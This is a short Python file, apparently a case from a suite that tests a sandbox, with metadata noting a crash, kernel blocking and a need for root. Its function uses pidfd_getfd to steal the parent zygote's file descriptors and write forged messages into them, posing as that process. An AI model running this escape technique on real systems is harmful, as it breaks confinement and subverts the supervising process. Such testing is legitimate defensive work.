"""Takes the zygote's control socket out of it with pidfd_getfd and answers the host in its place.

harm: crashed
stopped by: kernel
needs: root
"""

import os
import sys

libc = sys.modules["ctypes"].CDLL(None)


def f(x):
    zygote = os.pidfd_open(os.getppid())
    for number in range(3, 200):
        socket = libc.syscall(438, zygote, number, 0)  # pidfd_getfd
        if socket >= 0:
            try:
                os.write(socket, b"X\0\0\0\0")
            except OSError:
                continue
    return x
